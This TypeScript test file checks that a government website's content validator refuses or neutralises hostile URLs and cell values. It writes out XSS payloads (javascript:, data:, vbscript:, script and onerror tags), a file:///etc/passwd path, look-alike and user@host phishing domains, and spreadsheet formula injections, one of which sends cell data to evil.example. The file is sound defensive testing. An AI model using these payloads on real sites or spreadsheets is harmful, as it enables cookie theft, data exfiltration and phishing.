// Bad-content corpus, URLs: addresses that would publish a script or mislead a reader as a link
// (on every page, for the site's own), and text that would attack a spreadsheet user through the
// open-data CSV. URL fields are the one url() type (src/schemas/fields.ts, tested in
// src/schemas/url.test.ts); CSV cells are neutralised by toCsv (src/lib/export/export.test.ts).
import type { CorpusCase } from './case.ts';
import { replace } from '../test-tree.ts';
import { BODY_LINK } from '../../../schemas/url.ts';

const HTML = '用 Markdown 书写；正文中的 HTML 只可用不含脚本、样式、框架和事件属性的常用标签，如 <sup>、<br>、<table>';

const SITE = 'content/site.yaml';
const SUBJECT = 'content/enforcement/subjects/11990100MB1234567F.yaml';
const SERVICE = 'content/services/S-001.md';
const POWER = 'content/powers/P-001.yaml';

/** The subject's 行政复议 block with a 网上申请地址. */
const reviewUrl = (value: string) => ({ [SUBJECT]: replace('    timeLimit: 自知道该行政行为之日起六十日内\n', `    timeLimit: 自知道该行政行为之日起六十日内\n    url: ${value}\n`) });
/** The service guide's 网办地址. */
const onlineUrl = (value: string) => ({ [SERVICE]: replace('visits: 1\n', `visits: 1\nonlineUrl: ${value}\n`) });

export const cases: CorpusCase[] = [
  {
    name: 'site.yaml 网站地址 is a javascript: address',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', 'siteUrl: javascript:alert(document.cookie)') },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“javascript:alert(document.cookie)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 网站地址 in upper case JAVASCRIPT:',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', 'siteUrl: JAVASCRIPT:alert(1)') },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“JAVASCRIPT:alert(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 我为政府网站找错 is a data: address',
    edits: { [SITE]: replace('errorReportUrl: https://example.gov.cn/error', 'errorReportUrl: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
    refused: [
      'content/site.yaml:26 我为政府网站找错（errorReportUrl） — 值“data:text/html;base64,PHNjcmlwdD5hbGVydC…”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 我为政府网站找错 hides javascript: behind a leading space',
    edits: { [SITE]: replace('errorReportUrl: https://example.gov.cn/error', 'errorReportUrl: " javascript:alert(1)"') },
    refused: [
      'content/site.yaml:26 我为政府网站找错（errorReportUrl） — 值“ javascript:alert(1)”不符合要求 (期望 不含空格或不可见字符（第 1 个字符是 U+0020）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 党政机关网站标识 is protocol-relative //host',
    edits: { [SITE]: replace(/conacUrl: .*\n/, 'conacUrl: //evil.example/conac\n') },
    refused: [
      'content/site.yaml:27 党政机关网站标识（conacUrl） — 值“//evil.example/conac”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml editor platform address split by a tab (java\\tscript:)',
    edits: { [SITE]: (text) => `${text}cms:\n  backend: gitea\n  repo: office/site\n  branch: main\n  baseUrl: "java\\tscript:alert(1)"\n` },
    refused: [
      'content/site.yaml:33 网页编辑器.平台地址（cms.baseUrl） — 值“java⟨U+0009⟩script:alert(1)”不符合要求 (期望 不含空格或不可见字符（第 5 个字符是 U+0009）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 网站地址 breaks out of the attribute',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', `siteUrl: 'https://test.example.gov.cn/"><script>alert(1)</script>'`) },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“https://test.example.gov.cn/"><script>al…”不符合要求 (期望 以 http:// 或 https:// 开头的网址，不含引号、尖括号、反斜杠等字符)',
    ],
  },
  {
    name: 'subject 网上申请地址 is a vbscript: address',
    edits: reviewUrl('vbscript:msgbox(1)'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“vbscript:msgbox(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'subject 网上申请地址 leads elsewhere through "gov.cn@host"',
    edits: reviewUrl('https://test.example.gov.cn@evil.example/apply'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“https://test.example.gov.cn@evil.example…”不符合要求 (期望 以 http:// 或 https:// 开头的网址，域名前不能有“用户名@”)',
    ],
  },
  {
    name: 'subject 网上申请地址 with backslashes (https:\\\\host)',
    edits: reviewUrl('"https:\\\\\\\\evil.example/"'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“https:\\\\evil.example/”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 is a file: address',
    edits: onlineUrl('file:///etc/passwd'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“file:///etc/passwd”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 entity-encoded javascript:',
    edits: onlineUrl('"&#106;avascript:alert(1)"'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“&#106;avascript:alert(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 with a zero-width space',
    edits: onlineUrl('"https://zwfw.example.gov.cn\\u200b/item"'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“https://zwfw.example.gov.cn⟨U+200B⟩/item”不符合要求 (期望 不含空格或不可见字符（第 28 个字符是 U+200B）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 missing its scheme, for a guide done wholly online',
    edits: { [SERVICE]: replace('visits: 1\n', 'visits: 0\nonlineUrl: zwfw.example.gov.cn/item\n') },
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“zwfw.example.gov.cn/item”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 is a mailto: address (not a web address)',
    edits: onlineUrl('mailto:office@example.gov.cn'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“mailto:office@example.gov.cn”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'a =HYPERLINK formula as a service guide condition',
    edits: { [SERVICE]: replace('  - 符合条件\n', `  - '=HYPERLINK("https://evil.example/?d="&A1,"点此办理")'\n`) },
    acceptedBecause: 'text is text: the CSV export prefixes it with \' (src/lib/export/export.test.ts, "CSV cells a spreadsheet could run"), the JSON keeps it raw, pages escape it',
  },
  {
    name: 'an @SUM and a -1+1 in a power’s name and a subject’s duties',
    edits: { [POWER]: replace(/^name: .*$/m, "name: '@SUM(1+9)*cmd|'' /C calc''!A0'"), [SUBJECT]: replace('  - 人民防空监督管理\n', "  - '-1+1'\n") },
    acceptedBecause: 'the CSV export prefixes both with \' (src/lib/export/export.test.ts, "CSV cells a spreadsheet could run")',
  },
  {
    name: 'a full-width ＝ formula after spaces in a service guide condition',
    edits: { [SERVICE]: replace('  - 符合条件\n', "  - '  ＝HYPERLINK(\"https://evil.example\")'\n") },
    acceptedBecause: 'the CSV export prefixes cells whose first character after spaces is =, ＝ and the like (src/lib/export/export.test.ts)',
  },
  {
    // The sanitiser would drop both addresses (src/markdown/link-schemes.test.ts); the check says so first.
    name: 'a javascript: link in a service guide’s Markdown body',
    edits: { [SERVICE]: (text) => `${text}\n[在线办理](javascript:alert(1)) 或 <a href="java&#x09;script:alert(2)">这里</a>\n` },
    refused: [
      `content/services/S-001.md:46 正文 — <a> 的 href 地址“java⟨U+0009⟩script:alert(2)”不能发布：含空格或不可见字符（第 5 个字符是 U+0009） (期望 ${BODY_LINK})`,
      `content/services/S-001.md:46 正文 — 链接“javascript:alert(1)”不能发布：以“javascript:”开头，网页上只能链接网址、邮箱、电话和本站页面 (期望 ${BODY_LINK})`,
    ],
  },
  {
    name: 'a Markdown body with <script>, <iframe> and an <img onerror>',
    edits: { [SERVICE]: (text) => `${text}\n<script>alert(1)</script>\n\n<iframe src="https://evil.example/"></iframe><img src="/files/files/conac.png" alt="图" onerror="alert(2)">\n` },
    refused: [
      `content/services/S-001.md:46 正文 — HTML 标签 <script> 不会发布（网站会删去它） (期望 ${HTML})`,
      `content/services/S-001.md:48 正文 — <img> 的属性 onerror 不会发布（网站会删去它） (期望 ${HTML})`,
      `content/services/S-001.md:48 正文 — HTML 标签 <iframe> 不会发布（网站会删去它） (期望 ${HTML})`,
    ],
  },
  {
    name: 'a bare https://www.gov.cn@host in a body table (GFM makes it a link)',
    edits: { [SERVICE]: (text) => `${text}\n| 事项 | 网址 |\n| --- | --- |\n| 申请 | https://www.gov.cn@evil.example/ |\n` },
    refused: [
      `content/services/S-001.md:48 正文 — 链接“https://www.gov.cn@evil.example/”不能发布：应为以 http:// 或 https:// 开头的网址，域名前不能有“用户名@” (期望 ${BODY_LINK})`,
    ],
  },
  {
    name: 'service 网办地址 on a look-alike of gov.cn (Cyrillic о)',
    edits: onlineUrl('https://zwfw.example.gоv.cn/item'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“https://zwfw.example.gоv.cn/item”不符合要求 (期望 以 http:// 或 https:// 开头的网址，域名的每一段只用英文字母、数字和“-”，或只用汉字（如 政务服务.中国），不混用形似英文字母的其他文字)',
    ],
  },
  {
    name: 'body links an office writes: gov.cn, a mailbox, a hotline, a page and an attachment',
    edits: {
      [SERVICE]: (text) =>
        `${text}\n详见[中国政府网](https://www.gov.cn/)、[网上办理](https://zwfw.example.gov.cn/item?id=1&from=gongkai)，来信 <office@example.gov.cn>，热线 [12345](tel:12345)，[服务指南](/services/)，[征求意见稿](/files/consultations/files/zq-001.pdf)。\n`,
    },
    acceptedBecause: 'http(s), mailto:, tel:, pages of the site and attached files are what bodies may link to (src/schemas/url.ts bodyLinkProblem)',
  },
];
